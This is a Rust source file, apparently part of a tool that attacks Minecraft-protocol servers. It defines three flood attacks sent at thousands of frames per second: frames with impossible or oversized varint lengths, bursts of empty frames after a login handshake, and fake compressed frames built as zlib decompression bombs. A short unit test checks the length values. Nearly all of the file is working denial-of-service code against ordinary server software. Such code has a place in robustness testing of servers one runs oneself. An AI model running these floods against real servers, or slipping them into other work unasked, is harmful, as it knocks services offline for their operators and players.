//! Frames that lie about themselves: too long, negative, empty, or compressed when nothing is.

use std::net::Ipv4Addr;

use uuid::Uuid;

use super::floods::hello;
use super::{Attack, Ground, Move, Plan, Strike, said};
use crate::random::Random;
use crate::wire::{Intent, put_bytes, put_handshake, put_login_start, put_varint};

/// Lengths that no frame may have: negative, the longest of three bytes, endless, the largest number, and
/// just above the configured bound.
const LENGTHS: [&[u8]; 5] = [
    &[0xFF, 0xFF, 0xFF, 0xFF, 0x0F],
    &[0xFF, 0xFF, 0x7F],
    &[0x80; 16],
    &[0xFF, 0xFF, 0xFF, 0xFF, 0x07],
    &[0x91, 0x4E],
];
/// What follows a length, and how many empty frames come at once.
const BODY_BYTES: usize = 4_096;

/// What comes before the frame that lies.
struct Overture(Vec<u8>);

impl Overture {
    /// The handshake of a login.
    fn handshake(ground: &Ground) -> Self {
        let mut bytes = Vec::new();
        let hello = hello(ground, &ground.login_host);
        put_handshake(&mut bytes, hello.protocol, &hello.host, hello.port, Intent::Login);
        Self(bytes)
    }

    /// Handshake and login start.
    fn login(ground: &Ground) -> Self {
        let Self(mut bytes) = Self::handshake(ground);
        put_login_start(&mut bytes, "Framer", Uuid::from_u128(5));
        Self(bytes)
    }
}

/// Frames with impossible lengths, in place of the handshake and after it.
pub(super) struct Lengths(Overture);

impl Lengths {
    pub(super) fn new(ground: &Ground) -> Self {
        Self(Overture::handshake(ground))
    }
}

impl Attack for Lengths {
    fn plan(&self) -> Plan {
        Plan::flood(3_000.0)
    }

    fn strike(
        &mut self,
        number: u64,
        _: Option<Ipv4Addr>,
        _: &mut Random,
        output: &mut Vec<u8>,
    ) -> (Box<dyn Strike>, Move) {
        if number % 2 == 1 {
            output.extend_from_slice(&self.0.0);
        }
        let which = usize::try_from(number / 2).unwrap_or(0) % LENGTHS.len();
        output.extend_from_slice(LENGTHS[which]);
        output.resize(output.len() + BODY_BYTES, 0);
        said()
    }
}

/// Frames of no bytes, thousands at once.
pub(super) struct Empty(Overture);

impl Empty {
    pub(super) fn new(ground: &Ground) -> Self {
        Self(Overture::login(ground))
    }
}

impl Attack for Empty {
    fn plan(&self) -> Plan {
        Plan::flood(3_000.0)
    }

    fn strike(
        &mut self,
        number: u64,
        _: Option<Ipv4Addr>,
        _: &mut Random,
        output: &mut Vec<u8>,
    ) -> (Box<dyn Strike>, Move) {
        if number % 2 == 1 {
            output.extend_from_slice(&self.0.0);
        }
        output.resize(output.len() + BODY_BYTES, 0);
        said()
    }
}

/// Frames as if compression were on, which claim to become two megabytes each.
pub(super) struct Bombs {
    overture: Overture,
    frames: Vec<u8>,
}

impl Bombs {
    pub(super) fn new(ground: &Ground) -> Self {
        let mut frame = Vec::new();
        put_varint(&mut frame, (1 << 21) - 1);
        // The beginning of a zlib stream whose one block says zero over and over (RFC 1950, RFC 1951).
        frame.extend_from_slice(&[0x78, 0xDA, 0xED, 0xC1, 0x01, 0x01]);
        frame.resize(frame.len() + 250, 0);
        let mut frames = Vec::new();
        for _ in 0..16 {
            put_bytes(&mut frames, &frame);
        }
        Self {
            overture: Overture::login(ground),
            frames,
        }
    }
}

impl Attack for Bombs {
    fn plan(&self) -> Plan {
        Plan::flood(2_000.0)
    }

    fn strike(
        &mut self,
        _: u64,
        _: Option<Ipv4Addr>,
        _: &mut Random,
        output: &mut Vec<u8>,
    ) -> (Box<dyn Strike>, Move) {
        output.extend_from_slice(&self.overture.0);
        output.extend_from_slice(&self.frames);
        said()
    }
}

#[cfg(test)]
mod tests {
    use super::LENGTHS;
    use crate::wire::Reader;

    #[test]
    fn lengths_are_what_they_are_said_to_be() {
        let read = |which: usize| Reader::new(LENGTHS[which]).varint();
        assert_eq!(read(0), Ok(-1));
        assert_eq!(read(1), Ok((1 << 21) - 1));
        assert!(read(2).is_err());
        assert_eq!(read(3), Ok(i32::MAX));
        assert_eq!(read(4), Ok(10_001), "the default of max_packet_length is 10 000");
    }
}
